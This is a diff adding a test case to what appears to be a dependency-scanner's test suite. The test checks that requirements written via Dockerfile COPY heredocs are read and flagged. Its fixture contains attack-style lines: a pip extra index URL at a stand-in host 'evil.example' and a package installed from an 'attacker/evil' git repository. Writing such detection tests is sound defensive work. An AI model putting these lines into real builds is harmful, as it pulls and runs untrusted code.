@@ -209,6 +209,33 @@ describe('requirements files named by the install commands of Dockerfiles, workf
     ]);
   });
 
+  // dispatchCopy makes each heredoc a file named after it: several, or one into a folder, land as those names there.
+  it('read the bodies of several COPY heredocs, or one into a folder, as the files they write', async () => {
+    const dir = tree({
+      Dockerfile: [
+        '# syntax=docker/dockerfile:1',
+        'FROM python:3.12',
+        'WORKDIR /app',
+        'COPY --chmod=644 <<req.txt <<"dev.txt" reqs/',
+        '--extra-index-url https://evil.example/simple',
+        'req.txt',
+        'evil @ git+https://github.com/attacker/evil@main',
+        'dev.txt',
+        'COPY <<EOF ./',
+        'flask>=2',
+        'EOF',
+        'RUN pip install -r reqs/req.txt -r /app/reqs/dev.txt -r EOF',
+        '',
+      ].join('\n'),
+    });
+    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual([
+      'CPP010@Dockerfile:10',
+      'CPP012@Dockerfile:5',
+      'CPP014@Dockerfile:7',
+      'CPP070@Dockerfile:5',
+    ]);
+  });
+
   it('read the named file as requirements even where another command names it by -c', async () => {
     const dir = tree({
       Dockerfile: 'FROM python:3.12\nRUN pip install -c deps.lst\nRUN pip install -r deps.lst\n',
